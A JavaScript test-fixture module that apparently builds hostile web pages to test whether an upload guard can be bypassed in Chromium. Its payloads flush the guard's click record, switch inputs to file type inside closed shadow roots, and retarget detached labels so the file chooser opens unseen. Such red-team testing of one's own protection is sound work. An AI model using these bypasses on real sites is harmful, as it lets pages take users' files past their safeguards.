// Hostile pages for the forty-third attack on the upload guard: the
// person's click reaches an input's activation without the page world's
// `beingClicked` (pickers.js) knowing the input is being clicked, so the
// type wrappers of realms.js (typeKept) leave a type made "file" inside the
// click, and Chromium's own chooser opens at the activation. The person
// clicks "#open". Served by server.mjs at /attack43-…; tests: attack43.test.mjs.

import { attackPages, pickerWaysPage } from './uploads.mjs';

const status = `setTimeout(() => { const st = document.getElementById('status'); if (st) st.textContent += ' | ' + window.notes.slice(-4).join(' / '); }, 0);`;
const sendOnChange = (v) => `${v}.addEventListener('change', () => { if (${v}.files && ${v}.files.length) { note('change: ' + ${v}.files[0].name + ' ' + ${v}.files[0].size + ', connected ' + ${v}.isConnected); send([...${v}.files], 'change'); } });`;

/** The person's target: a connected <input type=text id=open>; `onClick` runs in its click listener (target phase). */
const target = (onClick) => `
      const b0 = document.getElementById('open');
      b0.id = 'open0';
      const i = document.createElement('input');
      i.type = 'text';
      i.id = 'open';
      i.style.cssText = 'display: block; width: 300px; height: 40px;';
      ${sendOnChange('i')}
      document.body.prepend(i);
      i.addEventListener('click', (e) => {
        ${onClick}
        note('click: type ' + i.type + ', connected ' + i.isConnected + ', activation ' + navigator.userActivation.isActive);
        ${status}
      });`;

/** Nine clicks dispatched at `at` (connected: each is recorded at the window, pushing the person's click out of pickers.js's last 8). */
const flush = (at) => `for (let k = 0; k < 9; k++) ${at}.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));`;

/**
 * The person's target: a host (id "open") with a CLOSED shadow root holding a text input that covers it; `onWindowClick`
 * runs in a listener at `at` (the window, or the host; bubble phase, where the event's composedPath no longer shows the closed root's nodes).
 */
const closed = (onWindowClick, onItsClick = '', at = 'window') => `
      const b0 = document.getElementById('open');
      b0.id = 'open0';
      const h = document.createElement('div');
      h.id = 'open';
      h.style.cssText = 'display: block; width: 300px; height: 40px;';
      const r = h.attachShadow({ mode: 'closed' });
      const i = document.createElement('input');
      i.type = 'text';
      i.style.cssText = 'display: block; width: 300px; height: 40px; margin: 0;';
      r.append(i);
      ${sendOnChange('i')}
      i.addEventListener('click', (e) => { ${onItsClick} });
      document.body.prepend(h);
      ${at}.addEventListener('click', (e) => {
        if (e.target !== h) return;
        ${onWindowClick}
        note('window click: type ' + i.type + ', connected ' + i.isConnected + ', activation ' + navigator.userActivation.isActive);
        ${status}
      });`;

/** labelretarget's page: `onLabelClick` in the detached label's click listener; `withFor`: the label says for=a. */
const labelTwo = (onLabelClick, withFor = true, bFile = false, how = 'l.click();') => `
      document.getElementById('open').addEventListener('click', () => {
        const l = document.createElement('label');
        const a = document.createElement('input');
        a.id = 'a';
        const b = document.createElement('input');
        b.id = 'b';
        ${bFile ? "b.type = 'file';" : ''}
        ${withFor ? "l.htmlFor = 'a';" : ''}
        l.append(a, b);
        ${sendOnChange('b')}
        l.addEventListener('click', (e) => { ${onLabelClick} note('label click: control ' + (l.control && l.control.id)); });
        b.addEventListener('click', (e) => { ${bFile ? '' : "b.type = 'file';"} note('b click: type ' + b.type + ', prevented ' + e.defaultPrevented + ', activation ' + navigator.userActivation.isActive); });
        try { ${how} note('asked'); } catch (e) { note('threw ' + e.name); }
        ${status}
      });`;

/** labelhidden's page: a detached label holding a file input, then `make` (an element x), x clicked with `how`. */
const labelInner = (make, how = 'x.click();') => `
      document.getElementById('open').addEventListener('click', () => {
        const l = document.createElement('label');
        const i = document.createElement('input');
        i.type = 'file';
        ${make}
        l.append(i, x);
        ${sendOnChange('i')}
        i.addEventListener('click', (e) => note('file click: prevented ' + e.defaultPrevented + ', activation ' + navigator.userActivation.isActive));
        try { ${how} note('asked'); } catch (e) { note('threw ' + e.name); }
        ${status}
      });`;

const HTML_WAYS = {
  // The person clicks a text input; its listener dispatches nine clicks at the body, which push the person's click
  // out of the recorded last 8, then makes it a file input and takes it out.
  ringflush: target(`${flush('document.body')} i.type = 'file'; i.remove();`),
  // The same, left connected (the guard's window listeners may hear its change).
  ringflushin: target(`${flush('document.body')} i.type = 'file';`),
  // The same with setAttribute.
  ringflushattr: target(`${flush('document.body')} i.setAttribute('type', 'file'); i.remove();`),
  // A text input in a closed shadow root, switched from a window listener (bubble): the recorded click's
  // composedPath, read with the window as currentTarget, hides it.
  closedswitch: closed("i.type = 'file'; i.remove();"),
  // The same, left in its root.
  closedswitchin: closed("i.type = 'file';"),
  // closedswitch, switched in a listener on the host itself (the host is currentTarget: the root's nodes hidden too).
  closedhost: closed("i.type = 'file'; i.remove();", '', 'h'),
  // In the person's click on "attach a photo": a DETACHED <label for=a> holding two text inputs a and b, clicked with
  // l.click() (the wrapper marks the label and its control a as being clicked); the label's listener points it at b
  // (Chromium reads the label's control again at its activation), and b's own click listener makes it a file input.
  labelretarget: labelTwo("l.htmlFor = 'b';"),
  // The same with no `for`: the label's listener puts b in front of a (the label's control is its first labelable descendant).
  labelswap: labelTwo("l.prepend(b);", false),
  // labelswap with b a FILE input from the start (no type switched at all): the label's control is the text input a
  // when the wrapper looks, b (a file input) at the activation.
  labelswapfile: labelTwo("l.prepend(b);", false, true),
  // labelswapfile with a dispatched click (the wrapped dispatchEvent).
  labelswapdispatch: labelTwo("l.prepend(b);", false, true, "l.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));"),
  // A label with NO control when clicked (a and b outside it): its listener puts the file input b in.
  labelappendfile: labelTwo("l.append(b);", false, true).replace('l.append(a, b);', ''),
  // The same, a taken out of the label instead.
  labelremovefile: labelTwo("a.remove();", false, true),
  // In the person's click: a detached <label> holding a file input and an element `x` the wrapper takes for interactive
  // content (input, a: pickers.js OWN_ACTIVATION) where Chromium does not (a hidden input; an <a> with no href); x.click().
  labelhidden: labelInner("const x = document.createElement('input'); x.type = 'hidden';"),
  labelanchor: labelInner("const x = document.createElement('a'); x.textContent = 'x';"),
  labelhiddendispatch: labelInner("const x = document.createElement('input'); x.type = 'hidden';", "x.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));"),
  // A detached file input inside a DISABLED fieldset, click() in the person's click: the browser would open nothing.
  fieldsetclick: `
      document.getElementById('open').addEventListener('click', () => {
        const f = document.createElement('fieldset');
        f.disabled = true;
        const i = document.createElement('input');
        i.type = 'file';
        f.append(i);
        ${sendOnChange('i')}
        note('matches disabled ' + i.matches(':disabled'));
        try { i.click(); note('asked'); } catch (e) { note('threw ' + e.name); }
        ${status}
      });`,
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack43Page = attackPages(43, picker, {});
